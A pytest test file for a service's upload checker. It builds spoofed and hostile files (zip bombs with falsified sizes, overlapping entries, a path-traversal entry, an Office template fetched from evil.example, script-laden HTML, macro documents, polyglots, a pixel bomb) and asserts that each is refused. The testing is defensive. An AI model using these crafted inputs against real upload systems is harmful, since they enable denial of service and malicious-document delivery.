"""What is not what its name says is refused, whatever it begins with; nothing takes long or much (R-195)."""

import io
import random
import struct
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable, Iterator

import pytest
from PIL import Image

from service.domain.attachments import MEGABYTE, Limits
from service.domain.errors import Refused
from service.uploads.examining import Upload, examine
from tests.uploads import papers
from tests.uploads.test_sound_files import FIVE, TYPES

HTML = b"<html><script>alert(1)</script></html>"


def with_parts(kind: str, **more: bytes) -> bytes:
    return papers.archive(
        {**papers.office_parts(kind), **{name.replace("__", "/"): body for name, body in more.items()}}
    )


def bomb() -> bytes:
    """292 KB that unpack to 300 MB, told honestly."""
    return papers.archive({**papers.office_parts("docx"), "word/media/zeros.bin": bytes(300 * MEGABYTE)})


def lying_bomb() -> bytes:
    """The directory says a thousand bytes, the packed bytes say forty megabytes."""
    return _declared(papers.archive({**papers.office_parts("docx"), "word/z": bytes(40 * MEGABYTE)}), "word/z", 1000)


def _declared(content: bytes, name: str, size: int) -> bytes:
    """The archive with another unpacked size written for a part, in its header and in the directory."""
    found = bytearray(content)
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        info = file.getinfo(name)
    struct.pack_into("<L", found, info.header_offset + 22, size)
    place = content.rfind(name.encode()) - 46
    assert found[place : place + 4] == b"PK\x01\x02"
    struct.pack_into("<L", found, place + 24, size)
    return bytes(found)


def overlapping() -> bytes:
    """Two names for one packed part: the way to make bombs of any ratio."""
    content = papers.archive({**papers.office_parts("docx"), "word/a": b"x" * 5000, "word/b": b"x" * 5000})
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        first = file.getinfo("word/a").header_offset
    found = bytearray(content)
    place = content.rfind(b"word/b") - 46
    struct.pack_into("<L", found, place + 42, first)
    return bytes(found)


def with_flag(content: bytes, flag: int) -> bytes:
    found = bytearray(content)
    place = content.find(b"PK\x01\x02")
    found[place + 8] |= flag
    found[6] |= flag
    return bytes(found)


def docm_as_docx() -> bytes:
    return papers.archive(papers.office_parts("docx", main_type=papers.MACRO_TYPES["docx"]))


def with_dtd() -> bytes:
    parts = papers.office_parts("docx")
    types = parts["[Content_Types].xml"]
    return papers.archive({**parts, "[Content_Types].xml": b'<!DOCTYPE Types [<!ENTITY a "b">]>' + types})


def with_outside_template() -> bytes:
    relations = (
        b'<Relationships xmlns="r"><Relationship Id="a" TargetMode="External" Target="http://evil.example/a.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    return papers.archive({**papers.office_parts("docx"), "word/_rels/settings.xml.rels": relations})


def without_body() -> bytes:
    parts = papers.office_parts("docx")
    return papers.archive({**parts, "word/document.xml": HTML})


def twice_one_name() -> bytes:
    target = io.BytesIO(papers.office_open("docx"))
    with zipfile.ZipFile(target, "a") as file:
        file.writestr("WORD/document.xml", b"<w:document xmlns:w='x'/>")
    return target.getvalue()


def looping_compound() -> bytes:
    """The chain of a stream comes back to its own beginning."""
    content = bytearray(papers.office_binary("doc"))
    table = struct.unpack_from("<L", content, 76)[0]
    struct.pack_into("<L", content, (table + 1) * 512 + 4 * 3, 0)
    return bytes(content)


def too_many_pixels() -> bytes:
    """A picture of 400 megapixels in a few hundred bytes."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">L", len(body)) + name + body + struct.pack(">L", zlib.crc32(name + body))

    head = chunk(b"IHDR", struct.pack(">LLBBBBB", 20_000, 20_000, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


def animated_past_the_limit() -> bytes:
    target = io.BytesIO()
    Image.new("P", (5001, 5000)).save(target, "GIF")
    return target.getvalue()


def gap() -> bytes:
    """Something stands between the last part and the directory; offsets are right."""
    content = papers.office_open("docx")
    at = struct.unpack_from("<L", content, len(content) - 6)[0]
    end = bytearray(content[-22:])
    struct.pack_into("<L", end, 16, at + 4)
    return content[:at] + b"HIDE" + content[at:-22] + bytes(end)


def pdf_in_a_comment_of_a_zip() -> bytes:
    """The archive ends where the file ends, as the rest of the PDF is its comment."""
    content = bytearray(papers.pdf(comment=papers.archive({"a": b"a"}) + b"\n"))
    end = content.find(b"PK\x05\x06")
    struct.pack_into("<H", content, end + 20, len(content) - end - 22)
    return bytes(content)


SLIDES = b"\x02\x00\x00\x04\x0c\x00\x00\x00" + struct.pack("<3L", 5, 1, 2)
MACRO_SHEET = struct.pack("<2H", 0x0085, 8) + struct.pack("<LBB2s", 0, 0, 1, b"ab")

SPOOFS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pdf as jpg": ("jpg", papers.pdf),
    "jpg as pdf": ("pdf", lambda: papers.image("jpg")),
    "png as jpg": ("jpg", lambda: papers.image("png")),
    "html as pdf": ("pdf", lambda: HTML),
    "html as doc": ("doc", lambda: HTML),
    "program as docx": ("docx", lambda: b"MZ" + bytes(500)),
    "nothing": ("pdf", lambda: b""),
    "nothing as jpg": ("jpg", lambda: b""),
    "text as bmp": ("bmp", lambda: b"BM" + HTML * 20),
    "plain zip as docx": ("docx", lambda: papers.archive({"a.txt": b"a"})),
    "docm as docx": ("docx", docm_as_docx),
    "xlsm as xlsx": ("xlsx", lambda: papers.archive(papers.office_parts("xlsx", main_type=papers.MACRO_TYPES["xlsx"]))),
    "pptm as pptx": ("pptx", lambda: papers.archive(papers.office_parts("pptx", main_type=papers.MACRO_TYPES["pptx"]))),
    "docx as xlsx": ("xlsx", lambda: papers.office_open("docx")),
    "macros inside": ("docx", lambda: with_parts("docx", **{"word__vbaProject.bin": b"x"})),
    "program inside": ("docx", lambda: with_parts("docx", **{"word__embeddings__a.exe": b"MZ"})),
    "document with macros inside": ("pptx", lambda: with_parts("pptx", **{"ppt__embeddings__a.xlsm": b"PK"})),
    "bomb": ("docx", bomb),
    "lying bomb": ("docx", lying_bomb),
    "overlapping parts": ("docx", overlapping),
    "too many parts": ("docx", lambda: with_parts("docx", **{f"word__{n}": b"x" for n in range(200)})),
    "encrypted part": ("docx", lambda: with_flag(papers.office_open("docx"), 1)),
    "part that leads out": ("docx", lambda: with_parts("docx", **{"..__..__evil": b"x"})),
    "two parts of one name": ("docx", twice_one_name),
    "list with a DTD": ("docx", with_dtd),
    "template from outside": ("docx", with_outside_template),
    "body that is no document": ("docx", without_body),
    "docx with a tail": ("docx", lambda: papers.office_open("docx") + b"tail"),
    "docx with a head": ("docx", lambda: HTML + papers.office_open("docx")),
    "gap between parts": ("docx", gap),
    "xls as doc": ("doc", lambda: papers.office_binary("xls")),
    "doc as ppt": ("ppt", lambda: papers.office_binary("doc")),
    "bare compound as wps": ("wps", lambda: papers.compound({"CONTENTS": b"x"})),
    "two documents in one": ("doc", lambda: papers.compound({n: papers.BEGINNINGS[n] for n in ("WordDocument", "Workbook")})),
    "doc with macros": ("doc", lambda: papers.office_binary("doc", storages=("Macros",))),
    "xls with macros": ("xls", lambda: papers.office_binary("xls", storages=("_VBA_PROJECT_CUR",))),
    "xls with a sheet of macros": ("xls", lambda: papers.office_binary("xls", beginning=papers.BEGINNINGS["Workbook"] + MACRO_SHEET)),
    "ppt with macros": ("ppt", lambda: papers.office_binary("ppt", beginning=papers.BEGINNINGS["PowerPoint Document"] + SLIDES)),
    "doc with a packed program": ("doc", lambda: papers.compound({"WordDocument": b"\xec\xa5", "\x01Ole10Native": b"MZ"})),
    "doc without a text": ("doc", lambda: papers.office_binary("doc", beginning=b"\x00\x01")),
    "doc with a tail": ("doc", lambda: papers.office_binary("doc") + HTML),
    "doc that loops": ("doc", looping_compound),
    "encrypted document": ("docx", lambda: papers.compound({"EncryptedPackage": b"x"})),
    "pdf and zip": ("pdf", lambda: papers.pdf() + papers.archive({"a": b"a"})),
    "pdf inside a zip": ("pdf", pdf_in_a_comment_of_a_zip),
    "pdf and page": ("pdf", lambda: papers.pdf(comment=b"%" + HTML + b"\n")),
    "pdf with a tail": ("pdf", lambda: papers.pdf() + b"tail"),
    "pdf without its table": ("pdf", lambda: papers.pdf().replace(b"xref\n0 4", b"zref\n0 4")),
    "pdf with a wrong table": ("pdf", lambda: papers.pdf().replace(b"00000 n", b"00000 n", 1).replace(b"1 0 obj", b"7 0 obj")),
    "only the ends of a pdf": ("pdf", lambda: b"%PDF-1.4\nrubbish startxref\n0\n%%EOF\n"),
    "jpg and zip": ("jpg", lambda: papers.image("jpg") + papers.archive({"a": b"a"})),
    "jpg and page": ("jpg", lambda: papers.image("jpg", comment=HTML)),
    "gif and page": ("gif", lambda: b"GIF89a" + HTML + papers.image("gif")[6:]),
    "gif and zip": ("gif", lambda: papers.image("gif") + papers.archive({"a": b"a"})),
    "gif and pdf": ("gif", lambda: b"GIF89a" + papers.pdf() + b"\x3b"),
    "png with a tail": ("png", lambda: papers.image("png") + b"tail"),
    "half a jpg": ("jpg", lambda: papers.image("jpg", size=(400, 300))[:-600]),
    "half a png": ("png", lambda: papers.image("png")[:80]),
    "400 megapixels": ("png", too_many_pixels),
    "25 megapixels and a line": ("gif", animated_past_the_limit),
}  # fmt: skip


@pytest.mark.requirement("R-195")
@pytest.mark.parametrize("spoof", SPOOFS)
def test_no_spoof_is_accepted(spoof: str) -> None:
    kind, make = SPOOFS[spoof]
    with pytest.raises(Refused) as refusal:
        examine(Upload(f"a.{kind}", make()), Limits(frozenset(TYPES), 8 * MEGABYTE))
    assert (refusal.value.code, refusal.value.status) == ("E_ATTACHMENT_CONTENT", 415)
    assert refusal.value.fields[0].field == "file"


@pytest.mark.requirement("R-195")
@pytest.mark.parametrize("name", ["a.exe", "a.docm", "a.html", "a.svg", "a.jpeg", "a.pdf.exe", "a", "a.", ".htaccess"])
def test_no_other_kind_is_accepted(name: str) -> None:
    with pytest.raises(Refused) as refusal:
        examine(Upload(name, papers.pdf()), FIVE)
    assert refusal.value.code == "E_ATTACHMENT_TYPE"


@pytest.mark.requirement("R-195")
@pytest.mark.parametrize("spoof", ["bomb", "lying bomb", "400 megapixels", "overlapping parts"])
def test_a_bomb_takes_neither_time_nor_memory(spoof: str) -> None:
    kind, make = SPOOFS[spoof]
    upload, limits = Upload(f"a.{kind}", make()), Limits(frozenset(TYPES), 8 * MEGABYTE)
    begun = time.thread_time()
    with pytest.raises(Refused):
        examine(upload, limits)
    # Fractions of a second of its own time; a bomb that is unpacked takes minutes.
    assert time.thread_time() - begun < 10
    tracemalloc.start()
    try:
        with pytest.raises(Refused):
            examine(upload, limits)
        assert tracemalloc.get_traced_memory()[1] < 64 * MEGABYTE
    finally:
        tracemalloc.stop()


def mutants(number: int, seed: int) -> Iterator[tuple[str, bytes]]:
    """Sound files of every kind, spoilt at random."""
    chance = random.Random(seed)
    sound = {kind: papers.paper(kind) for kind in TYPES}
    for _ in range(number):
        kind = chance.choice(TYPES)
        content = bytearray(sound[kind])
        for _ in range(chance.randint(1, 6)):
            place = chance.randrange(len(content))
            match chance.randrange(4):
                case 0:
                    content[place] = chance.randrange(256)
                case 1:
                    del content[place : place + chance.randint(1, 64)]
                case 2:
                    content[place:place] = chance.randbytes(chance.randint(1, 64))
                case _:
                    content[place : place + 4] = chance.choice((b"\xff" * 4, b"\0" * 4, b"\xff\xff\xff\x7f"))
            content = content or bytearray(b"x")
        yield kind, bytes(content)


def _examined(number: int, seed: int) -> tuple[int, float]:
    refused, slowest = 0, 0.0
    for kind, content in mutants(number, seed):
        begun = time.thread_time()
        try:
            examine(Upload(f"a.{kind}", content), FIVE)
        except Refused as refusal:
            assert refusal.code == "E_ATTACHMENT_CONTENT"
            refused += 1
        slowest = max(slowest, time.thread_time() - begun)
    return refused, slowest


@pytest.mark.requirement("R-195")
def test_spoilt_files_are_accepted_or_refused_and_nothing_else() -> None:
    refused, slowest = _examined(3_000, seed=195)
    assert refused > 1_500
    assert slowest < 10


@pytest.mark.slow
@pytest.mark.requirement("R-195")
def test_a_hundred_thousand_spoilt_files() -> None:
    refused, slowest = _examined(100_000, seed=196)
    assert refused > 50_000
    assert slowest < 10
